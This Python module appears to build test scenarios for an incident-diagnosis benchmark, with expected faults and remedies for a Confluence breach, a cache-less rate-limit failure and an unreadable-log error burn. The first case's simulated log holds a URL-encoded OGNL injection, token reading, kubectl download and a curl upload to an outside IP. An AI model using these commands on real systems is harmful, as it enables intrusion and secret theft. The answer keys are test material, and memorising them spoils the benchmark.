"""Who uses what is ours: a stolen token, a provider's limit; and one case that tells nothing."""

from __future__ import annotations

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.cases.quiet import HARM
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import ingress, service
from tests.diagnosis.casemaker.platform import claim, hpa, nodes, secret
from tests.diagnosis.casemaker.scene import alert, postgres, redis, session, sessions, taken, well
from tests.diagnosis.casemaker.sets import statefulset
from tests.diagnosis.casemaker.signals import exact, flat, requests, signal, step
from tests.diagnosis.casemaker.templates import container, pod_spec
from tests.diagnosis.casemaker.workloads import Rev, deployment
from tests.diagnosis.casemaker.world import World, days, hours, minutes


def binding(w: World, name: str, account: str, role: str, *, age: float, by: str) -> None:
    """Bind a service account to a cluster role in this namespace."""
    made = w.add(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": w.meta("RoleBinding", name, age),
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": w.namespace}],
        }
    )
    w.changed(made, age, by, {"f:roleRef": {}, "f:subjects": {}})


@case(
    "token-of-a-wiki-reads-every-secret",
    "registry-office",
    "2026-06-11T02:58:00",
    title="Somebody came in through a wiki's address line, took its token, reads all Secrets and sends them away",
    drawn_from="CVE-2022-26134 (OGNL in Confluence's URI) followed by kubectl with the mounted service account token",
    why="The log has the injected expression, the token being read, kubectl listing Secrets and an upload; a Secret "
    "for a lasting token was made from within. The release of a neighbour has nothing to do with it. Cut the wiki "
    "off and keep the pod: a restart destroys what can be learnt.",
    expect=[Fault("StatefulSet/wiki", "security_incident", "isolate_workload")],
    acceptable=[("security_incident", "isolate_workload", "Pod/wiki-0")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action", "restart_connection_pool"],
)
def token(w: World) -> None:
    nodes(w, "ro-1", "ro-2")
    inner = container("confluence", "atlassian/confluence:7.18.0", port=8090, memory=("2Gi", "4Gi"), ready="/status")
    wiki = statefulset(w, "wiki", pod_spec(inner, serviceAccountName="wiki"), 1, claim="home", age=days(610))
    claim(w, "home-wiki-0", size="100Gi")
    service(w, "wiki", target=8090)
    ingress(w, "wiki", "wiki.registry-office.example", [("/", "wiki", 80)])
    w.add({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": w.meta("ServiceAccount", "wiki", days(610))})
    binding(w, "wiki-admin", "wiki", "admin", age=days(608), by="kubectl-create")
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"])
    secret(w, "civil-register-db", ["url", "password"])
    name, kind = {"kubernetes.io/service-account.name": "wiki"}, "kubernetes.io/service-account-token"
    keys = ["ca.crt", "namespace", "token"]
    secret(
        w, "metrics-sync", keys, age=minutes(31), changed=minutes(31), by="kubectl-create", kind=kind, annotations=name
    )
    postgres(w)
    image = "registry.registry-office.example/certificates"
    certs = well(w, "certificates", f"{image}:15", pods=2, age=minutes(54), before=f"{image}:14")
    log(w, certs, 0, "logback", often(50, 2900, 9, "info", ["GET /certificates/{n} 200 41ms"]))
    ognl = (
        "%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28"
    )
    back = (
        "%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse"
    )
    back += "%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/"
    api = "https://10.96.0.1:443/api/v1/namespaces/registry-office"

    def hit(age: float, command: str) -> L:
        stamp = f"{w.time(age):%d/%b/%Y:%H:%M:%S +0000}"
        return L(age, "", f'203.0.113.148 - - [{stamp}] "GET /{ognl}%22{command}%22{back} HTTP/1.1" 302 -')

    def klog(age: float, text: str) -> L:
        return L(age, "", f"I{w.time(age):%m%d %H:%M:%S}.118204    4121 round_trippers.go:463] {text}")

    quiet = [
        L(x.age, "", f'10.244.1.9 - - [{w.time(x.age):%d/%b/%Y:%H:%M:%S +0000}] "GET {x.text} HTTP/1.1" 200 8120')
        for x in often(60, 3500, 4, "", ["/display/HB/Opening+hours"])
    ]
    seen = [
        hit(2590, "id"),
        hit(2571, "cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"),
        hit(2440, "curl+-Lo+%2Ftmp%2Fk+https%3A%2F%2Fdl.k8s.io%2Frelease%2Fv1.33.4%2Fbin%2Flinux%2Famd64%2Fkubectl"),
        klog(2210, f"GET {api}/secrets?limit=500"),
        klog(2209, "Response Status: 200 OK in 21 milliseconds"),
        klog(minutes(31), f"POST {api}/secrets?fieldManager=kubectl-create&fieldValidation=Strict"),
        klog(minutes(31) - 1, "Response Status: 201 Created in 14 milliseconds"),
        klog(1500, "POST https://10.96.0.1:443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"),
        L(1340, "", "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current"),
        L(1310, "", "100 1204M  100   182  100 1204M      5  38.1M  0:00:31  0:00:31 --:--:-- 38.4M"),
        hit(1290, "curl+-sT+%2Ftmp%2Fs.tgz+https%3A%2F%2F198.51.100.61%2Fu%2Fro"),
        hit(340, "%2Ftmp%2Fk+get+pods+-A"),
    ]
    log(w, wiki, 0, "plain", [*quiet, *seen])
    text = "wiki-0 sent 38 MB/s out of the cluster for half a minute, usually 0.1"
    alert(w, "UnusualEgress", minutes(20), text, pod="wiki-0", severity="warning")
    taken(w, ("objects", True, ""), ("logs", True, ""), ("prometheus", False, "not configured"))


@case(
    "release-asks-the-map-provider-without-its-cache",
    "bike-courier",
    "2026-05-21T12:14:00",
    title="A map provider answers 429 to most calls: since our release each estimate asks it, for want of a cache",
    drawn_from="a refactored configuration section whose cache fell back to none, found through the provider's limit",
    why="The provider is well and says what it allows; what came is thirty times of our own calls, from the minute of "
    "the release that lost Geo__Cache. Zones shares the key and suffers with it. More pods would ask more.",
    expect=[Fault("Deployment/courier-eta", "configuration_error", "rollback_workload")],
    acceptable=[
        ("code_defect", "rollback_workload"),
        ("dependency_failure", "rollback_workload"),
        ("resource_exhaustion", "rollback_workload"),
    ],
    tolerated=["page_human"],
    forbidden=[
        "restart_workload",
        "scale_workload",
        "no_action",
        "isolate_workload",
        {"remedy": "rollback_workload", "target": "Deployment/zones"},
    ],
)
def uncached(w: World) -> None:
    nodes(w, "bc-1", "bc-2", "bc-3")
    redis(w, "geo-cache")
    url, image = {"Geo__BaseUrl": "https://api.mapmatrix.example/v2"}, "registry.bike-courier.example/courier-eta"
    specs = [
        pod_spec(container("eta", f"{image}:{v}", env=env | {"DOTNET_gcServer": "0"}, memory=("256Mi", "512Mi")))
        for v, env in (("5.2.7", url | {"Geo__Cache": "geo-cache:6379"}), ("5.3.0", url))
    ]
    top = deployment(w, "courier-eta", [Rev(specs[0], days(16)), Rev(specs[1], minutes(36))], 4)
    service(w, "courier-eta")
    env = url | {"GEO_KEY_FROM": "mapmatrix"}
    base = "registry.bike-courier.example/zones"
    zones = well(w, "zones", f"{base}:30", pods=2, age=hours(25), before=f"{base}:29", env=env)
    well(w, "dispatch-board", "registry.bike-courier.example/dispatch-board:114", pods=2, age=days(6), talk=True)
    secret(w, "mapmatrix", ["api-key"], age=days(200))
    limited = (
        "429 Too Many Requests from https://api.mapmatrix.example/v2/matrix, X-RateLimit-Limit: 50;w=1, Retry-After: 9"
    )
    for index in range(4):
        began = minutes(35.5) - 9 * index
        lines = [
            L(
                began,
                "",
                "warn: CourierEta.Geo.GeoModule[12]\n      Geo:Cache is not configured, using NullMatrixCache",
            ),
            L(began - 1, "", "info: Microsoft.Hosting.Lifetime[14]\n      Now listening on: http://[::]:8080"),
        ]
        texts = [
            f"fail: CourierEta.Geo.MatrixClient[3]\n      {limited}",
            "info: CourierEta.Geo.MatrixClient[9]\n      last minute: 2214 lookups, 0 from cache, 2214 sent",
            f"fail: CourierEta.Geo.MatrixClient[3]\n      {limited}",
        ]
        log(w, top, index, "plain", [*lines, *often(24, minutes(16), 1, "", texts)])
    for index in range(2):
        log(w, zones, index, "logfmt", often(70, minutes(33), 3, "warn", [f"matrix refresh failed: {limited}"]))
    labels = {"component": "courier-eta", "dependency": "api.mapmatrix.example"}
    signal(w, "dependency_error_ratio", labels, step(0.001, 0.71, minutes(34)))
    signal(w, "dependency_latency_p95", labels, flat(0.11))
    exact(w, "cache_up", {"component": "geo-cache"}, flat(1))
    for index in range(4):
        labels = {"pod": top.pod(index), "container": "eta"}
        signal(w, "cpu_share", labels, flat(0.22), since=minutes(35) - 9 * index)
    requests(w, "courier-eta", rate=flat(74), errors=step(0.002, 0.66, minutes(34)), p95=step(0.04, 0.2, minutes(35)))
    requests(w, "zones", rate=flat(6), errors=step(0.001, 0.09, minutes(33)), p95=flat(0.05))
    requests(w, "dispatch-board", rate=flat(18), errors=flat(0.001), p95=flat(0.1))
    alert(w, "CourierEtaErrors", minutes(29), "66% of estimates fail", service="courier-eta")


@case(
    "some-claims-fail-and-no-log-may-be-read",
    "pet-insurance",
    "2026-08-04T14:47:00",
    title="Four in a hundred claims fail since half an hour, evenly on all pods; whatever can be seen is as before",
    drawn_from="error budgets burning while the responder's account may not read logs: the figures rule out, not in",
    why="No release of it, no more load, no pressure, all pods alike, database and neighbour well, logs forbidden. "
    "Each remedy would be a guess; somebody who may read the logs has to look.",
    expect=[Fault("Deployment/claims-intake", "unknown", "page_human")],
    acceptable=[("unknown", "page_human", "*")],
    forbidden=[*HARM, "no_action"],
)
def claims(w: World) -> None:
    nodes(w, "pi-1", "pi-2", "pi-3", cpu="8")
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"])
    postgres(w, "claims-db", image="postgres:17.2")
    image = "registry.pet-insurance.example"
    env = {"PGHOST": "claims-db", "VET_API": "https://vets.partner-net.example"}
    spec = pod_spec(container("intake", f"{image}/claims-intake:6.44", env=env, memory=("256Mi", "512Mi")))
    before = pod_spec(container("intake", f"{image}/claims-intake:6.43", env=env, memory=("256Mi", "512Mi")))
    top = deployment(w, "claims-intake", [Rev(before, days(40)), Rev(spec, days(13))], 4)
    service(w, "claims-intake")
    ingress(w, "claims", "claims.pet-insurance.example", [("/", "claims-intake", 80)])
    quotes = well(w, "quotes", f"{image}/quotes:210", pods=3, age=hours(5), before=f"{image}/quotes:209")
    hpa(w, quotes, low=2, high=8, now=3, used=61, scaled=hours(2))
    rows = [
        session(pod["status"]["podIP"], "Deployment/claims-intake", "idle", 5, age=14, user="claims")
        for pod in top.pods
    ]
    sessions(w, "StatefulSet/claims-db", 100, rows)
    for index in range(4):
        labels = {"pod": top.pod(index), "container": "intake"}
        signal(w, "cpu_share", labels, flat(0.27))
        signal(w, "throttled_share", labels, flat(0.06))
        signal(w, "memory_share", labels, flat(0.55 + 0.02 * index))
        exact(w, "restarts", labels, flat(0))
        signal(w, "error_ratio_by_pod", {"pod": top.pod(index)}, step(0.0008, 0.043, minutes(28)))
        signal(w, "request_rate_by_pod", {"pod": top.pod(index)}, flat(8))
    signal(w, "db_connections", {"component": "claims-db"}, flat(21))
    exact(w, "db_max_connections", {"component": "claims-db"}, flat(100))
    exact(w, "db_locks_waiting", {"component": "claims-db"}, flat(0))
    for name in ("pi-1", "pi-2", "pi-3"):
        signal(w, "node_cpu_share", {"node": name}, flat(0.33))
        signal(w, "node_memory_share", {"node": name}, flat(0.58))
    requests(w, "claims-intake", rate=flat(32), errors=step(0.0008, 0.043, minutes(28)), p95=flat(0.21))
    requests(w, "quotes", rate=flat(55), errors=flat(0.0007), p95=flat(0.09))
    alert(w, "ClaimsErrorBudgetBurn", minutes(21), "4.3% of claims are answered 500", service="claims-intake")
    note = 'pods "claims-intake" is forbidden: cannot get resource "pods/log" in API group ""'
    taken(w, ("objects", True, ""), ("logs", False, note), ("prometheus", True, ""))
